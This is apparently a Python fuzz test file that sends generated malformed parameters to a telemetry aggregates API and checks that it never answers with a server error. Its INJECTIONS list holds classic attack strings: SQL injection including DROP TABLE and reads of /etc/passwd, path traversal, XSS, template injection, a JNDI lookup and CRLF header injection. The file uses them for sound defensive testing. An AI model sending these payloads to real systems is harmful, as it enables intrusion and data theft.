"""Bad input to the aggregates API, generated: unknown and repeated parameters, malformed and huge date lists,
unknown channels, versions and metrics, and injection attempts in every parameter and path segment. The
service must answer every one with a 2xx/3xx or a 4xx carrying a JSON message, never a 5xx."""

from __future__ import annotations

import tempfile
from pathlib import Path
from urllib.parse import parse_qsl, quote, urlencode, urlsplit

import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.configuration import set_hypothesis_home_dir

from jetstream_assets.aggregates.rules import ENDPOINT_PARAMS, Rules
from jetstream_assets_tests.test_aggregates_helpers import build_world, running_server

# Hypothesis caches what it learns under its home folder: keep it out of the repository
set_hypothesis_home_dir(Path(tempfile.gettempdir()) / "jetstream_assets_hypothesis")

INJECTIONS = [
    "' OR '1'='1", "'; DROP TABLE build_id_20261020; --", '" OR ""="', "\\", "\\'", "%", "%00", "\x00",
    "\r\nSet-Cookie: a=b", "../../../etc/passwd", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x/a}",
    "GC_MS' UNION SELECT * FROM read_csv('/etc/passwd') --", "read_parquet('/etc/passwd')", "NaN", "-1",
    "9" * 400, "é", "😀", "", " ", ",", ",,,", "GC_MS\x00", "gc_ms", "SCALARS_", ".*", "[", "?", "#", "&",
    "20261020' OR date IS NOT NULL --", "20261301", "20260230", "2026-10-20", "0", "1e9", "true", "gpu",
]
VALID_DATES = ["20261020", "20261021", "20261022"]
METRICS = ["GC_MS", "IPC_MESSAGE_SIZE", "SCALARS_WIDGET.DARK_MODE", "NO_SUCH_METRIC"]
ALL_PARAMS = sorted({p for params in ENDPOINT_PARAMS.values() for p in params})
PARAM_NAMES = ALL_PARAMS + ["foo", "dates[]", "Metric", "DATES", "e10sEnabled", "", "channel ", "os;"]

texts = st.text(max_size=60)
values = st.one_of(
    st.sampled_from(INJECTIONS),
    texts,
    st.sampled_from(VALID_DATES + METRICS + ["nightly", "release", "160", "157", "Windows_NT", "true"]),
    # date lists: valid, mixed with junk, or huge
    st.lists(st.one_of(st.sampled_from(VALID_DATES), st.sampled_from(INJECTIONS), texts), max_size=8)
    .map(",".join),
    st.integers(min_value=0, max_value=3000).map(lambda n: ",".join(VALID_DATES[i % 3] for i in range(n))),
)
channels = st.one_of(st.sampled_from(["nightly", "beta", "release", "aurora"]), st.sampled_from(INJECTIONS), texts)
families = st.one_of(st.sampled_from(["build_id", "submission_date"]), st.sampled_from(INJECTIONS))


@st.composite
def requests_(draw):
    kind = draw(st.sampled_from(["aggregates", "aggregates", "dates", "channels", "filters"]))
    family = draw(families)
    channel = draw(channels)
    path = {
        "aggregates": f"/aggregates_by/{family}/channels/{channel}/",
        "dates": f"/aggregates_by/{family}/channels/{channel}/dates/",
        "channels": f"/aggregates_by/{family}/channels/",
        "filters": "/filters/",
    }[kind]
    accepted = ENDPOINT_PARAMS[kind]
    if kind == "aggregates":  # a valid request with some values replaced, some dropped
        base = {"version": "160", "dates": ",".join(VALID_DATES), "metric": draw(st.sampled_from(METRICS))}
    elif kind == "filters":
        base = {"channel": "nightly", "version": "160"}
    else:
        base = {}
    base.update(draw(st.dictionaries(st.sampled_from(accepted), values, max_size=4)) if accepted else {})
    for name in draw(st.lists(st.sampled_from(sorted(base)), max_size=2)) if base else []:
        base.pop(name, None)
    params = list(base.items())
    if draw(st.integers(0, 3)) == 0:  # sometimes unknown or repeated parameters
        params += draw(st.lists(st.tuples(st.sampled_from(PARAM_NAMES), values), min_size=1, max_size=3))
    return path, params


@pytest.fixture(scope="module")
def api(tmp_path_factory):
    world = build_world(tmp_path_factory.mktemp("aggregates_fuzz"), days=3, pings_per_day=150)
    with running_server(world.warehouse, Rules(allow_all_release_metrics=True)) as url:
        yield url


def check(api: str, url: str) -> None:
    reply = requests.get(api + url, timeout=30, allow_redirects=True)
    assert reply.status_code < 500, (url, reply.status_code, reply.text[:300])
    if reply.status_code >= 400 and reply.headers.get("content-type", "").startswith("application/json"):
        body = reply.json()
        assert body["status"] == reply.status_code and body["error"], url
    if reply.status_code == 405 and "Allow" in reply.headers and reply.headers["Allow"].startswith("/"):
        allow = urlsplit(reply.headers["Allow"])
        endpoint = ("filters" if allow.path == "/filters/" else "dates" if allow.path.endswith("/dates/")
                    else "channels" if allow.path.endswith("/channels/") else "aggregates")
        assert {k for k, _ in parse_qsl(allow.query, keep_blank_values=True)} <= set(ENDPOINT_PARAMS[endpoint])
    if reply.status_code == 200:
        reply.json()


@settings(max_examples=250, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(request=requests_())
def test_generated_requests_never_get_a_server_error(api, request):
    path, params = request
    check(api, quote(path, safe="/") + ("?" + urlencode(params) if params else ""))


@settings(max_examples=100, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(raw=st.text(alphabet=st.sampled_from(list("%=&,;/'\"\\ 0123456789abcdefABCDEFxz_.-+#?")), max_size=80))
def test_raw_malformed_query_strings_never_get_a_server_error(api, raw):
    check(api, "/aggregates_by/build_id/channels/nightly/?" + raw)
    check(api, "/filters/?" + raw)


def test_injection_in_every_parameter_is_refused_or_harmless(api):
    base = {"version": "160", "dates": ",".join(VALID_DATES), "metric": "GC_MS"}
    for name in ENDPOINT_PARAMS["aggregates"]:
        for attack in INJECTIONS:
            params = {**base, name: attack}
            reply = requests.get(f"{api}/aggregates_by/build_id/channels/nightly/?{urlencode(params)}", timeout=30)
            assert reply.status_code in (200, 400, 404), (name, attack, reply.status_code, reply.text[:200])
            if reply.status_code != 200:
                assert reply.json()["error"]
    for attack in INJECTIONS:
        for path in (f"/aggregates_by/build_id/channels/{quote(attack, safe='')}/?{urlencode(base)}",
                     f"/aggregates_by/{quote(attack, safe='')}/channels/nightly/dates/",
                     f"/filters/?{urlencode({'channel': attack, 'version': '160'})}"):
            reply = requests.get(api + path, timeout=30)
            assert reply.status_code in (400, 404), (path, reply.status_code, reply.text[:200])
